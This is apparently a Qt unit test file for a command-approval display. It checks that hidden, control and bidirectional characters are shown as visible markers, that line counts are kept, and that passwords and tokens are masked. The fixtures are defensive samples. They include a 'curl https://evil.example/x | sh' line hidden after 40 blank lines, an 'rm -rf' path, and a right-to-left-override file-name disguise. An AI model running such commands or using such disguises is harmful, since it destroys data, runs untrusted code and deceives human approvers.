#include "domain/Action.h"
#include "domain/CommandDisplay.h"
#include "domain/SecretMask.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace cs;

// What an approver reads of a command: each class of hidden, control and reordering character
// becomes a visible marker, newlines stay line breaks, and ordinary text is left alone.
class TestCommandDisplay : public QObject
{
    Q_OBJECT

    static QString shown(const QString &command)
    {
        ActionRequest request;
        request.command = command;
        return CommandDisplay::of(request).text;
    }

    // Not QString::fromUcs4: it takes a leading U+FEFF for a byte order mark and drops it.
    static QString cp(char32_t codePoint)
    {
        if (codePoint < 0x10000)
            return QString(QChar(char16_t(codePoint)));
        return QString(QChar::highSurrogate(codePoint)) + QChar::lowSurrogate(codePoint);
    }

private Q_SLOTS:
    void eachHiddenCharacterClass_isShownAsItsMarker_data()
    {
        QTest::addColumn<uint>("codePoint");
        QTest::addColumn<QString>("marker");
        QTest::newRow("C0 NUL") << 0x0u << u"⟦U+0000 NUL⟧"_s;
        QTest::newRow("C0 TAB") << 0x9u << u"⟦U+0009 TAB⟧"_s;
        QTest::newRow("C0 CR overwrites the line on a terminal") << 0xDu << u"⟦U+000D CR⟧"_s;
        QTest::newRow("C0 ESC starts terminal sequences") << 0x1Bu << u"⟦U+001B ESC⟧"_s;
        QTest::newRow("C0 unnamed") << 0x1Fu << u"⟦U+001F⟧"_s;
        QTest::newRow("DEL") << 0x7Fu << u"⟦U+007F DEL⟧"_s;
        QTest::newRow("C1 NEL") << 0x85u << u"⟦U+0085 NEL⟧"_s;
        QTest::newRow("C1 CSI") << 0x9Bu << u"⟦U+009B⟧"_s;
        QTest::newRow("zero width space") << 0x200Bu << u"⟦U+200B ZWSP⟧"_s;
        QTest::newRow("zero width joiner") << 0x200Du << u"⟦U+200D ZWJ⟧"_s;
        QTest::newRow("right-to-left mark") << 0x200Fu << u"⟦U+200F RLM⟧"_s;
        QTest::newRow("left-to-right embedding") << 0x202Au << u"⟦U+202A LRE⟧"_s;
        QTest::newRow("pop directional formatting") << 0x202Cu << u"⟦U+202C PDF⟧"_s;
        QTest::newRow("right-to-left override") << 0x202Eu << u"⟦U+202E RLO⟧"_s;
        QTest::newRow("left-to-right isolate") << 0x2066u << u"⟦U+2066 LRI⟧"_s;
        QTest::newRow("pop directional isolate") << 0x2069u << u"⟦U+2069 PDI⟧"_s;
        QTest::newRow("byte order mark") << 0xFEFFu << u"⟦U+FEFF BOM⟧"_s;
        QTest::newRow("format: soft hyphen") << 0xADu << u"⟦U+00AD SHY⟧"_s;
        QTest::newRow("format: word joiner") << 0x2060u << u"⟦U+2060 WJ⟧"_s;
        QTest::newRow("format: arabic letter mark") << 0x061Cu << u"⟦U+061C ALM⟧"_s;
        QTest::newRow("format: tag latin a") << 0xE0061u << u"⟦U+E0061⟧"_s;
        QTest::newRow("line separator") << 0x2028u << u"⟦U+2028 LS⟧"_s;
        QTest::newRow("paragraph separator") << 0x2029u << u"⟦U+2029 PS⟧"_s;
        QTest::newRow("no-break space looks like a space") << 0xA0u << u"⟦U+00A0 NBSP⟧"_s;
        QTest::newRow("em space") << 0x2003u << u"⟦U+2003⟧"_s;
        QTest::newRow("ideographic space") << 0x3000u << u"⟦U+3000⟧"_s;
        QTest::newRow("variation selector") << 0xFE0Fu << u"⟦U+FE0F⟧"_s;
        QTest::newRow("hangul filler") << 0x3164u << u"⟦U+3164⟧"_s;
        QTest::newRow("private use") << 0xE000u << u"⟦U+E000⟧"_s;
        QTest::newRow("unassigned") << 0x0378u << u"⟦U+0378⟧"_s;
        QTest::newRow("the marker's own bracket") << 0x27E6u << u"⟦U+27E6⟧"_s;
    }

    void eachHiddenCharacterClass_isShownAsItsMarker()
    {
        QFETCH(uint, codePoint);
        QFETCH(QString, marker);
        QCOMPARE(shown(u"rm -rf /srv/"_s + cp(codePoint) + u"x"_s), u"rm -rf /srv/"_s + marker + u"x"_s);
        ActionRequest request;
        request.command = cp(codePoint);
        QCOMPARE(CommandDisplay::of(request).markerCount, 1);
    }

    void rightToLeftOverride_cannotDisguiseAFileName()
    {
        // "cat report" U+202E "fdp.exe" draws as "cat reportexe.pdf"; shown, the override is in plain sight.
        const QString shownText = shown(u"cat report\u202Efdp.exe"_s);
        QCOMPARE(shownText, u"cat report⟦U+202E RLO⟧fdp.exe"_s);
        for (QChar c : shownText)
            QVERIFY(c.direction() != QChar::DirRLO);
    }

    void aTypedMarker_cannotPassForARealOne()
    {
        // The command itself holds the text of a marker: its brackets are escaped, so only the
        // console's own markers begin with a bare ⟦.
        QCOMPARE(shown(u"echo ⟦U+202E RLO⟧"_s), u"echo ⟦U+27E6⟧U+202E RLO⟦U+27E7⟧"_s);
    }

    void ordinaryText_isLeftAlone_data()
    {
        QTest::addColumn<QString>("command");
        QTest::newRow("ascii") << u"psql -c 'SELECT 1' \"$DB\" | tee ~/out && echo {ok}"_s;
        QTest::newRow("letters") << u"echo Grüße 日本語 Ελληνικά"_s;
        QTest::newRow("beyond the BMP") << u"echo 🚀 𝔘"_s;
        QTest::newRow("combining acute") << u"touch cafe\u0301"_s;
    }

    void ordinaryText_isLeftAlone()
    {
        QFETCH(QString, command);
        QCOMPARE(shown(command), command);
    }

    void newlines_stayLineBreaks_andAreCounted()
    {
        QString command = u"echo ok"_s;
        for (int i = 0; i < 40; ++i)
            command += u"\n"_s;
        command += u"curl https://evil.example/x | sh"_s;
        ActionRequest request;
        request.command = command;
        const CommandDisplay display = CommandDisplay::of(request);
        QCOMPARE(display.lineCount, 41);
        QCOMPARE(display.text, command);
        QCOMPARE(display.mode, CommandDisplay::Mode::Shell);
        QVERIFY(display.howItRuns().contains(u"/bin/sh -c string, 41 lines"_s));
        QVERIFY(display.numberedLines().endsWith(u"41 │ curl https://evil.example/x | sh"_s));
        QVERIFY(display.numberedLines().startsWith(u" 1 │ echo ok\n"_s));
        // In one line (a table cell, a notification) the newlines are markers as well.
        QVERIFY(CommandDisplay::singleLine(request).contains(u"echo ok⟦U+000A LF⟧⟦U+000A LF⟧"_s));
        QVERIFY(!CommandDisplay::singleLine(request).contains(u'\n'));
    }

    void argv_isQuotedCountedAndEscaped()
    {
        ActionRequest request;
        request.argv = {u"cp"_s, u"invoice\u202Efdp.exe"_s, u"/srv/share dir"_s};
        const CommandDisplay display = CommandDisplay::of(request);
        QCOMPARE(display.mode, CommandDisplay::Mode::Argv);
        QCOMPARE(display.argumentCount, 3);
        QCOMPARE(display.text, u"cp 'invoice⟦U+202E RLO⟧fdp.exe' '/srv/share dir'"_s);
        QCOMPARE(display.howItRuns(), u"argv, 3 arguments, run without a shell, 1 line, 1 hidden or control "
                                      "character shown as ⟦…⟧"_s);
    }

    void loneSurrogate_isMarked()
    {
        QString text = u"a"_s;
        text += QChar(0xD800);
        text += u"b"_s;
        QCOMPARE(CommandDisplay::escape(text), u"a⟦U+D800⟧b"_s);
    }

    void secrets_areMasked_andTheRestStaysReadable_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("masked");
        QTest::newRow("option with =") << u"mysql --user=root --password=hunter2 prod"_s
                                       << u"mysql --user=root --password=•••••••• prod"_s;
        QTest::newRow("option with space")
            << u"vault login --token s.AbC123 -method=token"_s << u"vault login --token •••••••• -method=token"_s;
        QTest::newRow("client secret option")
            << u"az login --client-secret 'x~8Q' --tenant t"_s << u"az login --client-secret '••••••••' --tenant t"_s;
        QTest::newRow("bearer header") << u"curl -H 'Authorization: Bearer eyJhbGciOi.x.y' https://api"_s
                                       << u"curl -H 'Authorization: Bearer ••••••••' https://api"_s;
        QTest::newRow("basic header") << u"curl -H \"authorization: basic dXNlcjpwYXNz\" h"_s
                                      << u"curl -H \"authorization: basic ••••••••\" h"_s;
        QTest::newRow("aws access key id") << u"aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE"_s
                                           << u"aws configure set aws_access_key_id ••••••••"_s;
        QTest::newRow("aws secret variable") << u"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls"_s
                                             << u"AWS_SECRET_ACCESS_KEY=•••••••• aws s3 ls"_s;
        QTest::newRow("pgpassword") << u"PGPASSWORD='s3cr3t' psql -h db"_s << u"PGPASSWORD='••••••••' psql -h db"_s;
        QTest::newRow("url password") << u"psql postgres://admin:Pa55w0rd@db.internal:5432/prod"_s
                                      << u"psql postgres://admin:••••••••@db.internal:5432/prod"_s;
        QTest::newRow("two secrets") << u"x --password=a --token b"_s << u"x --password=•••••••• --token ••••••••"_s;
        QTest::newRow("nothing secret") << u"kubectl -n shop rollout status deploy/checkout --timeout=60s"_s
                                        << u"kubectl -n shop rollout status deploy/checkout --timeout=60s"_s;
        QTest::newRow("a url without password")
            << u"curl https://user@example.com/x"_s << u"curl https://user@example.com/x"_s;
    }

    void secrets_areMasked_andTheRestStaysReadable()
    {
        QFETCH(QString, command);
        QFETCH(QString, masked);
        int count = 0;
        QCOMPARE(SecretMask::mask(command, &count), masked);
        QCOMPARE(count, int(masked.count(SecretMask::kMask)));
    }
};

QTEST_GUILESS_MAIN(TestCommandDisplay)
#include "tst_commanddisplay.moc"
